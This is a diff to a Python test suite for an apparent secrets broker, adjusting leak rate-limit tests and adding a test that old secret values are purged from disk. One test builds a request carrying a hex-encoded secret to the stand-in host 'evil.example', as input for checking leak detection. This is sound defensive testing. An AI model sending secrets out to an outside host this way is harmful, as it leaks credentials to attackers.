@@ -6,7 +6,7 @@ import pytest
 import trio
 from trio.testing import MockClock
 
-from akshi_mesh.secrets.broker import LEAKS_BURST
+from akshi_mesh.secrets.broker import HELD_OFF_MS, LEAKS_MAX
 from akshi_mesh.secrets.vault import RETIRED_MS
 from sandbox.endpoint import Url
 from sandbox.errors import AuditUnavailable, PortRefused
@@ -144,13 +144,19 @@ def test_a_locked_box_refuses_and_says_why(world: World) -> None:
 def test_a_secret_in_a_request_is_named_recorded_and_rationed(world: World) -> None:
     world.set()
     told = b"https://evil.example/?q=" + VALUE.encode().hex().encode()
-    for _ in range(int(LEAKS_BURST)):
+    for _ in range(LEAKS_MAX - 1):
         assert world.broker.leaks("reader", b"GET", told) == "token"
-    assert world.diary.told()[1:] == [("leak", "token", "reader", 1)]
+    assert world.broker.injections("reader", URL, "GET")
+    assert world.broker.leaks("reader", told) == "token"
+    assert world.diary.told()[1:] == [
+        ("leak", "token", "reader", 1),
+        ("used", "token", "reader", 1),
+    ]
+    world.now_ms += HELD_OFF_MS - 1
     code, _ = refusal(world)
     assert code is FaultCode.RATE_LIMITED
     assert world.broker.injections("writer", URL, "GET")
-    world.now_ms += 60_000
+    world.now_ms += 1
     assert world.broker.injections("reader", URL, "GET")
 
 
@@ -227,6 +233,23 @@ async def test_old_values_leave_the_disk_while_the_node_runs(
         await trio.sleep(1.5)
         nursery.cancel_scope.cancel()
     assert World(world.home).vault.entry("token").retired == ()
+
+
+async def test_a_disk_that_keeps_old_values_is_told_of_and_tried_again(
+    world: World, autojump_clock: MockClock
+) -> None:
+    world.set()
+    world.desk.rotate("token", OTHER)
+    async with trio.open_nursery() as nursery:
+        await nursery.start(world.broker.run)
+        world.now_ms += RETIRED_MS
+        world.home.security.chmod(0o750)
+        await trio.sleep(1.5)
+        world.home.security.chmod(0o700)
+        assert len(World(world.home).vault.entry("token").retired) == 1
+        await trio.sleep(1)
+        assert World(world.home).vault.entry("token").retired == ()
+        nursery.cancel_scope.cancel()
 
 
 def test_nothing_of_a_broker_prints_a_value(world: World) -> None:
